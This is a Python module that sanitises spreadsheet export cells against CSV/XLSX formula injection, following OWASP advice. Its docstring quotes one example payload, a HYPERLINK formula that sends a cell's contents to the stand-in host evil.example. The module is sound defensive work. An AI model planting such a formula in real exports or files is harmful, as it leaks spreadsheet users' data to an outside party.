"""Cells that a spreadsheet will not evaluate: CSV/XLSX export injection (OWASP).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Google Sheets as a formula (for
example ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` from a CRM
field). ``safe_cell`` puts a ``'`` in front of such text, as OWASP's "CSV
Injection" page advises; numbers, booleans, dates and None are returned as
they are, so numeric columns stay numeric. Every CSV and XLSX export passes
each cell, header included, through it.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value`` unchanged unless it is text a spreadsheet would evaluate; then ``'`` + text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A dict row with every key and value passed through ``safe_cell``."""
    return {safe_cell(key): safe_cell(value) for key, value in row.items()}
